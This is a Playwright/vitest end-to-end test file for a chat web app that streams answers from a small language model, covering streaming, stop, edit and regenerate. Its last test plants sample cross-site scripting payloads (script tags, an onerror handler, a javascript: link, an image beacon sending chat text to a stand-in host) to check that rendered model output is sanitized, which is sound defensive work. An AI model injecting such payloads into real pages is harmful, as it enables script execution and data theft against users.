// Chatting with the real model, split over two nodes.
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { ANSWER_MS, ask, launch, open } from './cluster-under-test';

let browser: Browser;
let page: Page;
let complaints: string[];
/** Chats that were there before the test. */
let before: string[];

beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());
beforeEach(async () => {
  ({ page, complaints } = await open(browser, 'first'));
  await page.getByRole('combobox', { name: 'Model' }).waitFor();
  before = await chatIds();
});
afterEach(async () => {
  await page.context().close();
  for (const id of await chatIds()) {
    if (!before.includes(id)) await ask('first', `/v1/chats/${id}`, { method: 'DELETE' });
  }
  expect(complaints).toEqual([]);
});

const chatIds = async () => (await ask<{ id: string }[]>('first', '/v1/chats')).map(({ id }) => id);

const answers = () => page.getByRole('article', { name: 'Answer' });
const facts = () => page.getByRole('list', { name: 'How this answer was made' });
/** The text of the last answer alone. */
const lastText = () => page.locator('article .markdown').last().innerText();

async function say(text: string) {
  await page.getByRole('textbox', { name: 'Message' }).fill(text);
  await page.keyboard.press('Enter');
}

/** A question with a long answer, so that there is time to step in. */
const LONG = 'Write a long story about a knot, a rope and a sailor.';

async function someText() {
  await page.locator('article[aria-busy] .markdown').waitFor({ timeout: ANSWER_MS });
  await expect
    .poll(async () => (await lastText()).length, { timeout: ANSWER_MS })
    .toBeGreaterThan(20);
}

test(
  'an answer streams in, and says how it was made',
  async () => {
    await say('Name three primary colours.');
    await page.locator('article[aria-busy]').waitFor();
    await facts().waitFor({ timeout: ANSWER_MS });

    expect((await lastText()).toLowerCase()).toMatch(/red|blue|yellow|green/);
    const said = await facts().innerText();
    expect(said).toMatch(/[\d.]+ tokens\/s/);
    expect(said).toMatch(/first token after [\d.]+ m?s/);
    expect(said).toMatch(/\d+ tokens in/);
    expect(said).toMatch(/\d+ tokens out/);
    expect(said).toMatch(/SmolLM2/i);
  },
  ANSWER_MS,
);

test(
  'text appears while the answer is still being made',
  async () => {
    await say(LONG);
    await someText();
    const early = (await lastText()).length;
    await expect
      .poll(async () => (await lastText()).length, { timeout: ANSWER_MS })
      .toBeGreaterThan(early);
    expect(await page.locator('article[aria-busy]').count()).toBe(1);
    await page.keyboard.press('Escape');
    await facts().waitFor();
  },
  ANSWER_MS,
);

test(
  'stopping keeps the text, marked, and a reload brings both back',
  async () => {
    await say(LONG);
    await someText();
    await page.getByRole('button', { name: 'Stop' }).click();
    await facts().waitFor({ timeout: 5_000 });
    const kept = await lastText();
    expect(kept.length).toBeGreaterThan(20);
    expect(await facts().innerText()).toContain('stopped by you');

    await page.reload();
    await page
      .getByRole('button', { name: /^Write a long story about a knot/ })
      .first()
      .click();
    await facts().waitFor();
    expect(await lastText()).toBe(kept);
    expect(await facts().innerText()).toContain('stopped by you');
  },
  ANSWER_MS,
);

test(
  'an edited question is answered anew, and so is one again',
  async () => {
    // Each answer is stopped once it is seen to come: what it says matters elsewhere.
    const answerComes = async () => {
      await someText();
      await page.keyboard.press('Escape');
      await facts().waitFor();
      expect(await answers().count()).toBe(1);
    };
    const talk = page.getByRole('region', { name: 'Conversation' });
    await say(LONG);
    await answerComes();

    await page.getByRole('button', { name: 'Edit message' }).click();
    await page.getByRole('textbox', { name: 'Edit message' }).fill('Describe the sea at length.');
    await page.keyboard.press('Enter');
    await answerComes();
    expect(await talk.getByText(LONG).count()).toBe(0);
    expect(await talk.getByText('Describe the sea at length.').count()).toBe(1);

    await page.getByRole('button', { name: 'Regenerate' }).click();
    await answerComes();
    expect(await talk.getByText('Describe the sea at length.').count()).toBe(1);
  },
  ANSWER_MS,
);

test('what a model writes can neither run nor load anything', async () => {
  // New each time: a deleted chat stays deleted, whatever is put into it.
  const id = `hostile-${Date.now()}`;
  const text = [
    '<img src="https://elsewhere.test/a.png" onerror="document.title = \'run\'">',
    '<script>document.title = "run"</script>',
    '[click](javascript:document.title="run")',
    '![spy](https://elsewhere.test/?what=was-said)',
    '<div style="position:fixed;inset:0">over everything</div>',
    '[docs](https://example.test/)',
    '```js\nconst marked = "<b>coloured</b>";\n```',
  ].join('\n\n');
  const messages = [
    { role: 'user', text: 'Be hostile.', facts: null },
    { role: 'assistant', text, facts: null },
  ];
  const chat = { id, title: 'Hostile answer', model: null, messages };
  await ask('first', `/v1/chats/${id}`, {
    method: 'PUT',
    body: JSON.stringify(chat),
  });
  try {
    await page.reload();
    await page.getByRole('button', { name: 'Hostile answer', exact: true }).click();
    const answer = page.locator('article .markdown');
    await answer.locator('.hljs-keyword').waitFor();
    expect(
      await answer.locator('img, script, .block [style], [onerror], [href^="javascript"]').count(),
    ).toBe(0);
    expect(await page.title()).toBe('Macramé');
    const link = answer.getByRole('link', { name: 'docs' });
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await link.getAttribute('target')).toBe('_blank');
  } finally {
    await ask('first', `/v1/chats/${id}`, { method: 'DELETE' });
  }
});
